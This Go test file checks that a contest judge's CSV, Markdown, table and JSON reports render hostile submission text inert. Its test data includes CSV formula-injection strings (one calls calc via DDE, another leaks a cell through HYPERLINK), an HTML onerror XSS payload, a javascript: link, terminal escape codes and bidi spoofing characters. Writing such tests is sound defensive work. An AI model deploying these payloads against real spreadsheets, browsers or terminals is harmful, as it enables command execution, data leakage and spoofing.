package reports

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/judgehq/judge/problems"
)

func TestCSVText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"alice", "alice"},
		{"=HYPERLINK(\"http://x/?\"&A2)", "'=HYPERLINK(\"http://x/?\"&A2)"},
		{"+1", "'+1"},
		{"-cmd", "'-cmd"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"a=b", "a=b"},
		{"\x1b]0;t\x07", `\x1b]0;t\a`},
		{"", ""},
	}
	for _, tt := range tests {
		if got := CSVText(tt.in); got != tt.want {
			t.Errorf("CSVText(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if got := UnCSVText(CSVText(tt.in)); !strings.Contains(tt.in, "\x1b") && got != tt.in {
			t.Errorf("UnCSVText(CSVText(%q)) = %q", tt.in, got)
		}
	}
	if got := UnCSVText("'quoted"); got != "'quoted" {
		t.Errorf("UnCSVText changed a text it did not make: %q", got)
	}
}

// TestReportTextIsInert writes results.csv and a problem's Markdown page for a
// submission and a message crafted to act on what opens them: a formula for a
// spreadsheet, HTML for a Markdown renderer, a line break to forge a table row.
func TestReportTextIsInert(t *testing.T) {
	res := []problems.Result{{Run: "r", Problem: "sudoku", Submission: "=cmd|' /C calc'!A0",
		Source: "<img src=x onerror=alert(1)>.c", Dataset: "sample/1",
		Outcome: problems.Outcome{Verdict: problems.WA, Message: "-2+3\n| 1 | fake.c | AC |"}}}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, res); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range recs[1] {
		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
			t.Errorf("results.csv cell %q would be a formula", cell)
		}
	}
	pr := RankProblem(problems.Meta{Slug: "<script>x</script>", Title: "T & <b>", Kind: problems.PassFail}, res, nil)
	var md bytes.Buffer
	if err := WriteProblemMarkdown(&md, pr); err != nil {
		t.Fatal(err)
	}
	if s := md.String(); strings.ContainsAny(s, "<>") {
		t.Errorf("HTML in the Markdown page:\n%s", s)
	}
	var tbl bytes.Buffer
	rows := [][]string{{res[0].Submission, res[0].Outcome.Message}}
	if err := WriteTable(&tbl, ASCII, []Column{{Name: "submission"}, {Name: "message"}}, rows); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(tbl.String(), "\n"); n != 5 {
		t.Errorf("a table of one row drew %d lines, want 5 (a cell broke its line):\n%s", n, tbl.String())
	}
}

// TestForgedVerdictColours writes a table whose message quotes a program that
// printed a green AC: only the judge's verdict cells keep their colours.
func TestForgedVerdictColours(t *testing.T) {
	green := Verdict(problems.AC, true)
	rows := [][]string{{Verdict(problems.WA, true), "found " + green}, {"3 " + green + ", 1 " + Verdict(problems.WA, true), green + " (or not)"}}
	var buf bytes.Buffer
	if err := WriteTable(&buf, ASCII, []Column{{Name: "verdict"}, {Name: "message"}}, rows); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if strings.Count(out, green) != 1 || !strings.Contains(out, Verdict(problems.WA, true)+" ") {
		t.Errorf("the judge's own colours lost:\n%q", out)
	}
	if !strings.Contains(out, `found \x1b[32mAC\x1b[0m`) || !strings.Contains(out, `\x1b[32mAC\x1b[0m (or not)`) {
		t.Errorf("a program's green AC in a message kept its colour:\n%q", out)
	}
}

// TestMarkdownKeepsProgramTextText checks that a program's message cannot
// become a link or an image in a problem's Markdown page, while the judge's
// own diff link stays one.
func TestMarkdownKeepsProgramTextText(t *testing.T) {
	r := problems.Result{Run: "r", Problem: "sudoku", Submission: "x.c", Dataset: "secret/1", Diff: "-a\n+b\n",
		Outcome: problems.Outcome{Verdict: problems.WA, Message: "[click](javascript:alert(1)) ![x](http://127.0.0.1:9/t.png) `code` *em*"}}
	var md bytes.Buffer
	if err := WriteProblemMarkdown(&md, RankProblem(problems.Meta{Slug: "sudoku", Kind: problems.PassFail}, []problems.Result{r}, nil)); err != nil {
		t.Fatal(err)
	}
	page := md.String()
	if n := strings.Count(page, "]("); n != 1 || !strings.Contains(page, "[diff](") {
		t.Errorf("want exactly the judge's diff link, got %d link(s):\n%s", n, page)
	}
	if !strings.Contains(page, `\[click\]\(javascript:alert\(1\)\)`) {
		t.Errorf("the message was not kept as escaped text:\n%s", page)
	}
}

// TestJSONThroughPrintable: a message holding every kind of character the
// judge's printable standard output escapes stays valid JSON that decodes to
// the message itself, written straight and through a PrintableWriter (as
// `judge run --json` writes it).
func TestJSONThroughPrintable(t *testing.T) {
	msgs := []string{
		"boom\x7f\x1b\n",
		"c1 \u009b31m, bidi \u202egnp.exe, isolate \u2066x\u2069, lrm \u200e",
		"bad utf-8 \xff\xfe, bell \a, cr \r, nul \x00",
		"plain",
	}
	for _, msg := range msgs {
		rep := Build(Input{Run: "r", Results: []problems.Result{{Run: "r", Problem: "p", Submission: "s\x7f.c",
			Dataset: "1", Outcome: problems.Outcome{Verdict: problems.RTE, Message: msg}}}})
		var direct bytes.Buffer
		if err := WriteJSON(&direct, rep); err != nil {
			t.Fatal(err)
		}
		var wrapped bytes.Buffer
		pw := NewPrintableWriter(&wrapped)
		if err := WriteJSON(pw, rep); err != nil {
			t.Fatal(err)
		}
		if err := pw.Flush(); err != nil {
			t.Fatal(err)
		}
		for name, out := range map[string][]byte{"direct": direct.Bytes(), "printable": wrapped.Bytes()} {
			if needsEscape(string(out)) {
				t.Errorf("%s: %q left characters a terminal acts on", name, msg)
			}
			var back struct {
				Results []struct {
					Message string `json:"message"`
				} `json:"results"`
			}
			if err := json.Unmarshal(out, &back); err != nil {
				t.Fatalf("%s: %q gave invalid JSON: %v\n%s", name, msg, err, out)
			}
			want := string([]rune(msg)) // each byte that is no UTF-8: U+FFFD
			if len(back.Results) != 1 || back.Results[0].Message != want {
				t.Errorf("%s: message read back %+v, want %q", name, back.Results, want)
			}
		}
	}
}
